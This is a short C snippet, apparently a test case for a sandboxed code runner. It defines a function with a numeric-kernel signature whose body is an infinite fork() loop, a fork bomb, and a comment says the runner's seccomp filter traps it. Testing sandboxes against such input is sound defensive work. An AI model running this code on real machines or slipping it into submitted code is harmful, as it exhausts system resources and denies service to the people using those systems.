/* Classic fork bomb: the runner's seccomp filter traps the first clone. */
#include <unistd.h>
void k(const float *a, const float *b, float *y, int n) {
    for (;;) fork();
}
